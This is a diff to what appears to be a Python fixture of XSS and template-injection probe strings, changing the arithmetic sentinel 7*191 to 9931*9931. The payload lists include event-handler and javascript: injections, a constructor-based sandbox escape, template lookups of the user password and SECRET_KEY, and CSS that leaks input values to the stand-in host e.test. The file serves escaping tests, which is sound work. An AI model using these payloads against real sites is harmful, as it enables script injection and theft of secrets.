@@ -4,8 +4,8 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
-# What a template of anybody's would make of `7*191`.
-SUM = "1337"
+# What a template of anybody's would make of `9931*9931`: more digits than a moment has.
+SUM = "98624761"
 # What of a payload would become of an element or an attribute of its own, if any page took it for markup.
 MARK = "pwn"
 
@@ -16,8 +16,8 @@ SHORT = (
     "<img src=x onerror=ran=1>",
     "\" autofocus onfocus=ran=1 x='",
     "' onmouseover=ran=1 pwn='",
-    "{{7*191}}{%now 'Y'%}",
-    "${7*191}<%=7*191%>#{7*191}",
+    "{{9931*9931}}{%now 'Y'%}",
+    "${9931*9931}<%=9931*9931%>#{9931*9931}",
     "javascript:ran=1",
     "--><b pwn>]]><b pwn>",
     "</title></textarea><b pwn>",
@@ -45,7 +45,7 @@ LONG = (
     "<div data-hx-get=/ data-hx-trigger=load data-hx-on:click='ran=1'>x</div>",
     "<meta http-equiv=refresh content='0;//e.test'><link rel=stylesheet href=//e.test/x.css>",
     "![x](http://e.test/p.png) <javascript:ran=1> [x]: data:text/html,<b pwn>",
-    "{{constructor.constructor('ran=1')()}} {{''.__class__.__mro__}} {{7*191}}",
+    "{{constructor.constructor('ran=1')()}} {{''.__class__.__mro__}} {{9931*9931}}",
     "{% load static %}{% include 'base.html' %}{{ request.user.password }}{{ settings.SECRET_KEY }}",
     "</style><style>@import '//e.test';input[value^=a]{background:url(//e.test/a)}</style>",
     "vbscript:ran=1 data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg== java\tscript:ran=1",
